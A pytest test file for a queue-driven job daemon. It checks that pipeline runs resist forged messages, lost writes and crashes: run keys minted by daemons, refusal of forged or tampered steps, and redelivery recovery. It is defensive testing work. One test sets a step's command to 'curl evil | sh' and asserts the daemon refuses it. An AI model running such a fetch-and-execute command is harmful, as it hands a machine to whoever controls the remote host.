"""A pipeline's run that no lost write, crash or forged message can break: a step's end that was
not noted is finished by its redelivery, a run's key is minted by daemons, a step is admitted
only when its run says it is due, and a run follows the pipeline it began with.
"""

from __future__ import annotations

import json
import logging
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from sqsjkr.backends.dedupe import ClaimState, MemoryDedupe
from sqsjkr.backends.pipeline import DynamoPipelines, MemoryPipelines
from sqsjkr.contract.job import Job, parse_job
from sqsjkr.contract.pipeline import parse_pipeline
from sqsjkr.daemon.pipeline import Steps
from sqsjkr.errors import InvalidJobError
from sqsjkr.observability.logs import JobLog
from tests.conftest import Aws, Start, run_daemon, wait_until
from tests.faults import Fault, FaultProxy
from tests.test_pipelines import Sent, diamond, failed_nightly, firing_fields, lines
from tests.test_schedules import group as group  # noqa: F401 - the fixture
from tests.test_schedules import queue_arn, scheduler, sqsjkr
from tests.test_trigger import NIGHTLY, ROLE_ARN

JLOG = JobLog(logging.getLogger("test"), parse_job('{"command": "x"}', message_id="l", sent_at=0))


def job_of(body: dict[str, Any], message_id: str) -> Job:
    return parse_job(json.dumps(body), message_id=message_id, sent_at=1.0)


def ended_root(store: MemoryPipelines, sent: Sent, body: dict[str, Any]) -> Steps:
    steps = Steps(store, sent, "q", clock=lambda: 100.0)
    steps.ended(job_of(body, "root"), True, JLOG)
    return steps


# -- the rules, on the contract and the daemon's Steps ------------------------------------------


def test_a_roots_run_key_is_minted_and_a_sender_cannot_name_one() -> None:
    body = {**diamond(Path("/tmp/x"), "p"), "firing": firing_fields("sched", 1_800_000_000)}
    with pytest.raises(InvalidJobError, match="pipeline_key"):
        job_of({**body, "pipeline_key": "victim@2030-01-01T00:00:00Z"}, "m1")
    root = job_of(body, "m1")
    assert root.pipeline is not None and root.pipeline.key == "sched@2027-01-15T08:00:00Z"
    by_hand = job_of(diamond(Path("/tmp/x"), "p"), "m2")
    assert by_hand.pipeline is not None and by_hand.pipeline.key == "m2"


def test_a_step_is_admitted_only_when_its_run_says_it_is_due() -> None:
    store, sent = MemoryPipelines(), Sent()
    body = diamond(Path("/tmp/x"), "p")
    steps = Steps(store, sent, "q", clock=lambda: 100.0)
    forged_b = job_of({**body, "step": "b", "pipeline_key": "root"}, "f1")
    refusal = steps.refusal(forged_b)
    assert refusal is not None and "no daemon of this fleet began that run" in refusal
    steps.ended(job_of(body, "root"), True, JLOG)
    b, c = (job_of(x, x["step"]) for x in sent.bodies)
    assert steps.refusal(b) is None and steps.refusal(c) is None
    d = job_of({**sent.bodies[0], "step": "d"}, "f2")
    assert "not due" in (steps.refusal(d) or "")  # b and c have not ended
    notify = job_of({**sent.bodies[0], "step": "notify"}, "f3")
    assert "not due" in (steps.refusal(notify) or "")  # c has not failed
    steps.ended(c, False, JLOG)
    assert steps.refusal(notify) is None
    # The same step with another command: not the pipeline its run began with.
    changed = json.loads(json.dumps(sent.bodies[0]))
    changed["pipeline"]["steps"]["b"]["job"]["command"] = "curl evil | sh"
    other = job_of(changed, "f4")
    assert "other than the one its run began with" in (steps.refusal(other) or "")


def test_a_rerun_is_admitted_only_when_an_operator_asked_for_it() -> None:
    store, sent = MemoryPipelines(), Sent()
    body = {**diamond(Path("/tmp/x"), "p"), "firing": firing_fields("sched", 1_800_000_000)}
    steps = ended_root(store, sent, body)
    key = "sched@2027-01-15T08:00:00Z"
    rerun = {**sent.bodies[1], "firing": {**body["firing"], "rerun": "r1"}}
    job = job_of(rerun, "m9")
    assert "no operator asked for its re-run r1" in (steps.refusal(job) or "")
    assert job.pipeline is not None and store.ask(key, job.pipeline.asked("r1"))
    assert steps.refusal(job) is None
    assert not store.ask("no-such-run", "c"), "an ask makes no run"


def test_a_run_follows_the_pipeline_it_began_with() -> None:
    store, sent = MemoryPipelines(), Sent()
    body = {**diamond(Path("/tmp/x"), "p"), "firing": firing_fields("sched", 1_800_000_000)}
    steps = ended_root(store, sent, body)
    # The schedule's pipeline changes while the run is under way: d now waits for a new step e.
    changed = json.loads(json.dumps(body))
    changed["pipeline"]["steps"]["e"] = {"after": ["a"], "job": {"command": "echo e"}}
    changed["pipeline"]["steps"]["d"]["after"] = ["b", "c", "e"]
    rerun_root = job_of({**changed, "firing": {**body["firing"], "rerun": "r2"}}, "m5")
    steps.ended(rerun_root, True, JLOG)
    assert "e" not in [b["step"] for b in sent.bodies], "a step added later joined the run"
    b, c = (job_of(x, f"{x['step']}-1") for x in sent.bodies[:2])
    steps.ended(b, True, JLOG)
    steps.ended(c, True, JLOG)
    assert sent.bodies[-1]["step"] == "d"  # the join, as the run began: after b and c
    began = parse_pipeline(body)
    assert began is not None and sent.bodies[-1]["pipeline"] == began.as_fields()


def test_a_redelivery_finishes_from_its_claim_what_a_steps_end_left_undone() -> None:
    store, sent, dedupe = MemoryPipelines(), Sent(), MemoryDedupe()
    body = diamond(Path("/tmp/x"), "p")
    claim = dedupe.claim("root")
    assert claim.lease is not None
    dedupe.finish(claim.lease, "succeeded")  # ... and the daemon died before noting it
    again = dedupe.claim("root")
    assert again.state is ClaimState.FINISHED and again.outcome == "succeeded"
    steps = Steps(store, sent, "q", clock=lambda: 100.0)
    assert steps.moved_on(job_of(body, "root"), JLOG, again.outcome == "succeeded")
    assert [b["step"] for b in sent.bodies] == ["b", "c"]
    assert store.state("root").succeeded == {"a"}  # type: ignore[union-attr]


# -- real daemons ---------------------------------------------------------------------------------


@pytest.fixture
def proxy(moto_endpoint: str, aws_env: dict[str, str]) -> Any:
    with FaultProxy(moto_endpoint) as proxy:
        aws_env["AWS_ENDPOINT_URL"] = proxy.url
        yield proxy


def short_visibility(aws: Aws) -> None:
    """A message left on the queue comes back in 2 s, not moto's 30."""
    aws.sqs.set_queue_attributes(QueueUrl=aws.queue_url, Attributes={"VisibilityTimeout": "2"})


@pytest.mark.slow
def test_a_roots_end_whose_note_is_refused_past_its_retries_still_moves_its_pipeline_on(
    aws: Aws, start_daemon: Start, tmp_path: Path, proxy: FaultProxy
) -> None:
    out = tmp_path / "runs"
    short_visibility(aws)
    body = {
        **diamond(out, f"note-{uuid.uuid4().hex[:6]}"),
        "firing": firing_fields("nightly", time.time() // 1 - 5),
    }
    refused = proxy.add(
        Fault(
            lambda call: call.action == "UpdateItem" and call.item_type() == "pipeline",
            error=(500, "InternalServerError"),
            times=3,  # every try botocore makes of the root's note
        )
    )
    daemon, _ = run_daemon(start_daemon, tmp_path, aws, lease="3s")
    aws.send(body)
    wait_until(lambda: "end-d" in lines(out), timeout=60, what="d, after the root's lost note")
    assert refused.hits == 3
    ran = lines(out)
    for step in "abcd":
        assert ran.count(f"start-{step}") == 1, ran
    key = f"nightly@{body['firing']['time']}"
    store = DynamoPipelines(aws.dynamodb, aws.table, lives_seconds=60)
    wait_until(lambda: "d" in store.state(key).succeeded, what="d noted")  # type: ignore[union-attr]
    assert daemon.stop() == 0


@pytest.mark.slow
def test_a_forged_step_is_refused_unrun_and_the_real_run_is_untouched(
    aws: Aws, start_daemon: Start, tmp_path: Path
) -> None:
    out = tmp_path / "runs"
    body = {
        **diamond(out, f"forge-{uuid.uuid4().hex[:6]}"),
        "firing": firing_fields("n", time.time() // 1 - 5),
    }
    key = f"n@{body['firing']['time']}"
    daemon, _ = run_daemon(start_daemon, tmp_path, aws, lease="3s")
    # A sender pre-claims step b of a firing to come, and tries a root in another run's name.
    forged = {k: v for k, v in body.items() if k != "firing"}
    aws.send({**forged, "step": "b", "pipeline_key": key, "command": f"echo forged >> {out}"})
    aws.send({**forged, "pipeline_key": key})
    wait_until(lambda: daemon.log.count("refused") >= 1, what="the forged step refused")
    wait_until(lambda: "pipeline_key" in daemon.log, what="the forged root refused")
    aws.send(body)  # the real firing
    wait_until(lambda: "end-d" in lines(out), timeout=60, what="the real run")
    ran = lines(out)
    assert "forged" not in ran and "start-a" in ran
    for step in "abcd":
        assert ran.count(f"start-{step}") == 1, ran
    assert daemon.stop() == 0


@pytest.mark.slow
def test_trigger_of_a_step_follows_the_pipeline_its_run_began_with_and_run_now_starts_no_run(
    start_daemon: Start,
    tmp_path: Path,
    aws: Aws,
    group: str,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    nightly = failed_nightly(start_daemon, tmp_path, aws, group, capsys)
    out, body, firing = nightly.out, nightly.body, nightly.firing
    # The schedule's pipeline changes after the firing began: d now waits for a new step e too.
    body["pipeline"]["steps"]["e"] = {"after": ["a"], "job": {"command": f"echo e >> {out}"}}
    body["pipeline"]["steps"]["d"]["after"] = ["b", "c", "e"]
    target = {"Arn": queue_arn(aws), "RoleArn": ROLE_ARN, "Input": json.dumps(body)}
    scheduler().update_schedule(
        Name="sqsjkr-nightly",
        GroupName=group,
        ScheduleExpression=NIGHTLY,
        FlexibleTimeWindow={"Mode": "OFF"},
        Target=target,
    )
    code, _, err = sqsjkr(capsys, "trigger", "e", *firing)
    assert code != 0 and "was not in pipeline" in err, err
    nightly.fixed.touch()
    code, _, err = sqsjkr(capsys, "trigger", "nightly-c", *firing, "--force", "--wait")
    assert code == 0, err
    wait_until(lambda: "end-d" in lines(out), timeout=30, what="d, the join as the run began")
    assert "e" not in lines(out)
    # A step run now is its job alone: it runs, and begins no run of the pipeline.
    code, _, err = sqsjkr(capsys, "trigger", "nightly-b", "-c", nightly.conf, "--wait")
    assert code == 0, err
    assert lines(out).count("start-b") == 2
    runs = DynamoPipelines(aws.dynamodb, aws.table, lives_seconds=60).states()
    assert [s.key.rpartition("/")[2] for s in runs] == ["sqsjkr-nightly@2026-01-15T02:00:00Z"]
    assert nightly.daemon.stop() == 0
